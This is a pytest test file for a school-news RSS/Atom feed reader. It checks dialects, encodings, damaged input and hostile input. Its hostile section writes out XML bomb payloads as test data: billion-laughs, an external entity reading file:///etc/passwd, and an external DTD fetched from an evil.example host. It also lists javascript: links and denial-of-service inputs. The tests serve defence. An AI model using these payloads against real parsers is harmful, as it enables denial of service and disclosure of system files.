"""Feeds as they come: every dialect, every kind of damage, every kind of malice."""

from __future__ import annotations

import io
import re
import time
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builder.markdown import to_html
from goodnews.feeds import MOST_ENTRIES, Feed, read_feed
from goodnews.model import Story
from tests.goodnews.feeds import ATOM, OLD_RSS, RDF, WORDPRESS, item, rss
from tests.goodnews.payloads import SCRIPTS


def only(feed: Feed) -> Story:
    assert not feed.problems
    (story,) = feed.stories
    return story


def stops(feed: Feed) -> str:
    assert not feed.stories
    (problem,) = feed.problems
    assert problem.stops
    return problem.message


# --- dialects ----------------------------------------------------------------------------------------------------------


def test_wordpress_gives_its_whole_story_without_its_furniture() -> None:
    feed = read_feed(WORDPRESS.encode())
    garden, tent = feed.stories
    assert not feed.problems
    assert garden == Story(
        school="Example Primary School",
        title="Year 4’s garden: a first harvest",
        text="Year 4 picked their first winter lettuces on Friday. Everyone had a leaf & a story.\n\n"
        "- 12 lettuces\n- 1 snail\n\n"
        "See [our garden page](https://example-primary.example/garden/). "
        "[Continue reading](https://example-primary.example/2025/01/garden/#more-4711)",
        link="https://example-primary.example/2025/01/garden/",
        published=datetime(2025, 1, 10, 9, 30, tzinfo=UTC),
        source="https://example-primary.example/?p=4711",
        summary="Year 4 picked their first winter lettuces on Friday.",
    )
    assert (tent.text, tent.published) == ("Pupils sewed it themselves.", datetime(2025, 1, 8, 7, tzinfo=UTC))


def test_atom_gives_html_titles_xhtml_bodies_and_plain_text() -> None:
    wind, plain = read_feed(ATOM.encode(), school="Specimen High").stories
    assert (wind.school, wind.title, wind.text) == (
        "Specimen High",
        "Catching the wind & light",
        "Three blades **won**.",
    )
    assert (wind.published, wind.source) == (
        datetime(2025, 1, 8, 10, tzinfo=UTC),
        "tag:specimen-high.example,2025:wind",
    )
    assert (plain.text, plain.link) == ("One line.\n\nAnother, with 1 &lt; 2.", "")
    assert plain.published == datetime(2025, 1, 7, 12, tzinfo=UTC)


@pytest.mark.parametrize("encoding", ["iso-8859-1", "utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_rdf_is_read_in_its_encoding(encoding: str) -> None:
    text = RDF if encoding == "iso-8859-1" else RDF.replace("ISO-8859-1", encoding.removesuffix("-sig"))
    story = only(read_feed(text.encode(encoding)))
    assert (story.title, story.school) == ("Café for families", "Sample Nursery")
    assert story.published == datetime(2025, 1, 6, 9, tzinfo=UTC)


def test_a_feed_that_says_utf_8_and_is_windows_1252_is_read_all_the_same() -> None:
    assert only(read_feed(rss(item("Caf\u00e9")).decode().encode("windows-1252"), charset="utf-8")).title == "Café"


def test_the_oldest_rss_needs_its_netscape_doctype_and_gets_nothing_from_there() -> None:
    story = only(read_feed(OLD_RSS.encode()))
    assert (story.title, story.text, story.published) == ("Open evening was full", "", None)


def test_relative_links_start_at_the_story_and_the_storys_own_at_the_feed() -> None:
    raw = rss(item(link="/news/1", text='<a href="plan.pdf">Plan</a>'))
    story = only(read_feed(raw, url="https://school.example/feed"))
    assert (story.link, story.text) == ("https://school.example/news/1", "[Plan](https://school.example/news/plan.pdf)")


# --- what is missing ---------------------------------------------------------------------------------------------------


def test_a_story_without_a_title_takes_its_first_sentence() -> None:
    assert only(read_feed(rss("<item><description>We won. Twice.</description></item>"))).title == "We won."


def test_a_story_without_title_and_text_is_left_out_and_that_is_told() -> None:
    feed = read_feed(rss(item(), "<item><link>https://school.example/b</link></item>"))
    assert len(feed.stories) == 1
    assert [(p.stops, "1 of" in p.message) for p in feed.problems] == [(False, True)]


@pytest.mark.parametrize(
    "date", ["", "soon", "0000-00-00", "Fri, 99 Jan 2025", "9" * 400, "31 Feb 2025 25:61:61 +9999"]
)
def test_a_date_that_is_none_is_no_date(date: str) -> None:
    story = only(read_feed(rss(item(more=f"<pubDate>{date}</pubDate>"))))
    assert story.published is None or story.published.tzinfo is UTC


def test_a_feed_without_a_name_and_without_a_school_is_told() -> None:
    assert "Name the school" in stops(read_feed(rss(item(), title="")))
    assert only(read_feed(rss(item(), title=""), school="Example School")).school == "Example School"


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "mailto:a@b.example", "data:text/html,x", "", "https://user@x.example/"]
)
def test_a_story_whose_link_is_no_page_has_no_link(link: str) -> None:
    assert only(read_feed(rss(item(link=link)))).link == ""


def test_a_story_is_told_from_others_by_its_guid_else_its_link_else_its_words() -> None:
    with_guid = only(read_feed(rss(item(more="<guid>abc</guid>"))))
    with_link = only(read_feed(rss(item())))
    bare = only(read_feed(rss("<item><title>T</title></item>")))
    assert (with_guid.source, with_link.source, bare.source) == ("abc", "https://school.example/a", "T")


def test_the_same_story_twice_in_a_feed_is_one() -> None:
    assert len(read_feed(rss(item("New words"), item("Old words"))).stories) == 1


def test_a_feed_without_stories_is_no_problem() -> None:
    assert read_feed(rss()) == Feed("Example School")


# --- what is damaged ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("damage", ["<p>open", "&nbsp;", "a & b", "\x00\x08", "<b></i>", "</channel>"])
def test_a_damaged_feed_is_read_as_far_as_it_goes_and_the_damage_is_told(damage: str) -> None:
    feed = read_feed(rss(f"<item><title>Still here</title><description>{damage}</description></item>"))
    assert [s.title for s in feed.stories] == ["Still here"]
    assert not any(problem.stops for problem in feed.problems)


def test_damage_is_told_with_its_line() -> None:
    (problem,) = read_feed(
        b"<rss version='2.0'><channel><title>S</title>\n<item><title>a & b</title></item></channel></rss>"
    ).problems
    assert "line 2" in problem.message


def test_a_truncated_feed_is_never_an_exception() -> None:
    raw = WORDPRESS.encode()
    for end in range(0, len(raw), 53):
        assert read_feed(raw[:end], school="S") is not None


@pytest.mark.parametrize("raw", [b"", b" \n ", b"\xef\xbb\xbf", b"\xff\xfe"])
def test_nothing_is_told_as_nothing(raw: bytes) -> None:
    assert "empty" in stops(read_feed(raw))


@pytest.mark.parametrize(
    "raw", [b"<!DOCTYPE html><html><body><h1>News</h1></body></html>", b"{}", b"%PDF-1.7", b"\x89PNG\r\n", b"hello"]
)
def test_what_is_no_feed_is_told_with_advice(raw: bytes) -> None:
    assert "Look for its feed" in stops(read_feed(raw, school="S"))


# --- what is hostile ---------------------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = [
    f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>' + rss(item("&l9;")).decode(),
    f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>' + rss(item("&a;" * 5_000)).decode(),
    '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss(item("&x;")).decode(),
    '<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>' + rss(item()).decode(),
    '<!DOCTYPE rss [\n<!-- <a -->\n<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;">]>' + rss(item("&l1;")).decode(),
]


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_xml_bomb_is_refused_before_it_goes_off(bomb: str, encoding: str) -> None:
    started = time.process_time()
    assert "entities" in stops(read_feed(bomb.encode(encoding)))
    assert time.process_time() - started < 1


def test_an_encoding_that_hides_a_bomb_is_not_believed() -> None:
    head = b'<?xml version="1.0" encoding="utf-7"?>'
    feed = read_feed(head + BOMBS[0].removeprefix('<?xml version="1.0"?>').encode("utf-7"))
    assert not feed.stories


def test_an_outside_document_type_is_never_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    def nobody(*_: object) -> None:
        raise AssertionError("The network was used.")

    monkeypatch.setattr(socket, "socket", nobody)
    assert only(read_feed(OLD_RSS.encode()))


@pytest.mark.parametrize("payload", SCRIPTS)
def test_a_payload_in_any_place_comes_out_as_plain_words(payload: str) -> None:
    inner = payload.replace("]]>", "")
    raw = rss(f"<item><title><![CDATA[T {inner}]]></title><guid><![CDATA[{inner}]]></guid><link><![CDATA[{inner}]]></link>"
              f"<description><![CDATA[{inner}]]></description></item>", title=f"<![CDATA[S {inner}]]>")  # fmt: skip
    for story in read_feed(raw).stories:
        for value in (story.title, story.school, story.summary, story.source):
            assert "\n" not in value
            assert not set(value) & set("\0\u202e\u2066\u200b\ufeff")
        assert story.link == "" or story.link.startswith("https://")
        assert all(
            href.startswith(("https://", "http://", "mailto:"))
            for href in re.findall('href="([^"]*)"', to_html(story.text))
        )


def test_a_feed_of_ten_megabytes_is_refused_at_once() -> None:
    raw = rss(*[item()] * 90_000)
    assert len(raw) > 10_000_000
    started = time.process_time()
    assert "at most 2,000 kB" in stops(read_feed(raw))
    assert time.process_time() - started < 1


def test_of_a_feed_with_very_many_stories_the_first_are_read() -> None:
    feed = read_feed(rss(*(item(f"Story {n}", link=f"https://school.example/{n}") for n in range(10_000))))
    assert [s.title for s in feed.stories] == [f"Story {n}" for n in range(MOST_ENTRIES)]
    assert [p.stops for p in feed.problems] == [False]


SLOW = {
    "comments": rss(item(text="<!--" * 400_000)),
    "comments cut in two": rss(
        "<item><title>T</title><description>" + "<![CDATA[<]]>!--" * 100_000 + "</description></item>"
    ),
    "tags": rss(item(text="<b>" * 600_000)),
    "blockquotes": rss(item(text="<blockquote>" * 150_000)),
    "one endless title": rss(item("x" * 1_900_000)),
    "one endless date": rss(item(more="<pubDate>" + "1 " * 900_000 + "</pubDate>")),
    "one endless link": rss(item("T", link="https://" + "a." * 900_000)),
    "one endless guid": rss(item(more="<guid>" + "x" * 1_900_000 + "</guid>")),
    "an open tag": b"<rss><channel><item><title>T</title>" + b"<a " * 160_000,
    "open tags": b"<rss><channel><item><title>T</title>" + b"<b>" * 160_000,
    "space before the feed": b"<!-- -->" + b"\n" * 1_900_000 + rss(item()),
    "document types": b"<!DOCTYPE " * 190_000,
    "deep elements": rss("<item>" + "<x>" * 250_000 + "</x>" * 250_000 + "</item>"),
    "attributes": rss("<item " + " ".join(f'a{n}="x"' for n in range(100_000)) + "/>"),
    "name spaces": rss("<item " + " ".join(f'xmlns:a{n}="x{n}"' for n in range(60_000)) + "/>"),
    "empty items": rss("<item/>" * 270_000),
    "open items": b"<rss><channel>" + b"<item>" * 80_000,
    "one item's links": rss("<item><title>T</title>" + "<link>https://a.example/</link>" * 60_000 + "</item>"),
    "categories": rss("<item><title>T</title>" + "<category>x</category>" * 80_000 + "</item>"),
    "ampersands": rss("<item><title>T</title><description>" + "&" * 490_000 + "</description></item>"),
}


@pytest.mark.parametrize("name", SLOW)
def test_no_two_megabytes_keep_the_reader_busy(name: str) -> None:
    started = time.process_time()
    read_feed(SLOW[name])
    assert time.process_time() - started < 8


# --- anything at all ---------------------------------------------------------------------------------------------------

PIECES = [
    b"<rss version='2.0'>", b"<channel>", b"<item>", b"</item>", b"<title>", b"</title>", b"<description>", b"<![CDATA[", b"]]>",
    b"<feed xmlns='http://www.w3.org/2005/Atom'>", b"<entry>", b"<content type='xhtml'>", b"<content type='application/xml'>",
    b"<content mode='base64'>", b"<link href='http://[::1'/>", b"<link>", b"<guid>", b"<pubDate>", b"<updated>", b"2025-W99", b"<!DOCTYPE ", b"<!--", b"-->",
    b"<?xml version='1.0' encoding='utf-16'?>", b"<?xml encoding='x'?>", b"&#xD800;", b"&#0;", b"&#99999999;", b"&amp;", b"&x;", b"<a:b>", b"<media:content url='//['>",
    b"\x00", b"\xff\xfe", b"\xed\xa0\x80", b"<", b">", b"'", b"<a href=", b"</rss>", b"</feed>", b"<geo:lat>x</geo:lat>", b"<georss:point>1</georss:point>", b"<psc:chapter start='x'/>", b"text", b"<![", b"<!x [",
]  # fmt: skip


@settings(deadline=None)
@given(st.binary(max_size=400))
def test_no_bytes_at_all_are_an_exception(raw: bytes) -> None:
    assert isinstance(read_feed(raw, school="S", url="https://school.example/"), Feed)


@settings(deadline=None, max_examples=300)
@given(
    st.lists(st.sampled_from(PIECES) | st.binary(max_size=4), max_size=30),
    st.sampled_from(["", "utf-8", "utf-7", "x", "\0"]),
)
def test_no_heap_of_feed_pieces_is_an_exception(pieces: list[bytes], charset: str) -> None:
    feed = read_feed(b"".join(pieces), school="S", url="https://school.example/", charset=charset)
    for story in feed.stories:
        assert story.title.encode()
        assert story.text.encode()
        assert story.title.isprintable()


def test_the_same_bytes_give_the_same_stories() -> None:
    raw = io.BytesIO(WORDPRESS.encode()).getvalue()
    assert read_feed(raw) == read_feed(raw)
